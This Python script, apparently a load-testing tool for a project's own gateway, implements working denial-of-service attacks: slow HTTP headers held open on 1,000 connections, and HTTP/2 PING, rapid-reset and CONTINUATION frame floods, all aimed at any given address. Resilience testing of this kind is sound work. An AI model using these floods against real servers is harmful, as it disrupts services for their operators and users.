#!/usr/bin/env python3
"""Attacks a gateway, for as long as it is let run: what other clients feel of it, sse-loadtest measures beside it.

    loadtest/attack.py heads 127.0.0.1:8080    # 1,000 connections that send a byte of a request's head each second
    loadtest/attack.py ping 127.0.0.1:8080     # HTTP/2 PING frames on 8 connections, as fast as they are taken
    loadtest/attack.py reset 127.0.0.1:8080    # HTTP/2 requests that are taken back at once, on 8 connections
    loadtest/attack.py continuation 127.0.0.1:8080
"""

import selectors
import socket
import sys
import time

HEADS, CONNECTIONS = 1000, 8
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
PATH = b"/rooms/attacked"


def frame(kind, flags, stream, payload=b""):
    return len(payload).to_bytes(3) + bytes([kind, flags]) + stream.to_bytes(4) + payload


def request(flags, stream):
    # :method GET, :scheme http, :authority a, :path, in the static table's terms
    return frame(1, flags, stream, b"\x82\x86\x01\x01a\x04" + bytes([len(PATH)]) + PATH)


def flood(name):
    """What a connection says first, and then again and again."""
    hello = PREFACE + frame(4, 0, 0)
    if name == "ping":
        return hello, frame(6, 0, 0, bytes(8)) * 500
    if name == "continuation":
        return hello + request(1, 1), frame(9, 0, 1) * 500
    streams = range(1, 20_000, 2)
    return hello, b"".join(request(5, n) + frame(3, 0, n, b"\0\0\0\x08") for n in streams)


def connect(address):
    peer = socket.create_connection(address, 5)
    peer.setblocking(False)
    return peer


def slow_heads(address):
    peers, opened = [], 0
    while True:
        began = time.monotonic()
        while len(peers) < HEADS:
            peers.append(connect(address))
            opened += 1
            peers[-1].send(b"GET /rooms/attacked/events HTTP/1.1\r\nHost: a\r\nX: ")
        for peer in peers[:]:
            try:
                peer.send(b"a")
            except OSError:
                peers.remove(peer)
                peer.close()
        print(f"{len(peers)} open, {opened} opened so far", flush=True)
        time.sleep(max(0, 1 - (time.monotonic() - began)))


def floods(address, name):
    hello, again = flood(name)
    selector, rests, sent, cut, told = selectors.DefaultSelector(), {}, 0, 0, time.monotonic()
    while True:
        while len(rests) < CONNECTIONS:
            peer = connect(address)
            rests[peer] = hello
            selector.register(peer, selectors.EVENT_READ | selectors.EVENT_WRITE)
        for key, events in selector.select(1):
            peer = key.fileobj
            try:
                if events & selectors.EVENT_READ and not peer.recv(1 << 16):
                    raise ConnectionError
                if events & selectors.EVENT_WRITE:
                    done = peer.send(rests[peer])
                    sent += done
                    rests[peer] = rests[peer][done:] or again
            except BlockingIOError:
                pass
            except OSError:
                cut += 1
                del rests[peer]
                selector.unregister(peer)
                peer.close()
        if time.monotonic() - told > 1:
            told = time.monotonic()
            print(f"{sent / 1e6:.0f} MB sent, {cut} connections cut off so far", flush=True)


def main():
    if len(sys.argv) != 3 or sys.argv[1] not in ("heads", "ping", "reset", "continuation"):
        sys.exit(__doc__)
    host, port = sys.argv[2].rsplit(":", 1)
    address = (host, int(port))
    try:
        slow_heads(address) if sys.argv[1] == "heads" else floods(address, sys.argv[1])
    except KeyboardInterrupt:
        pass


main()
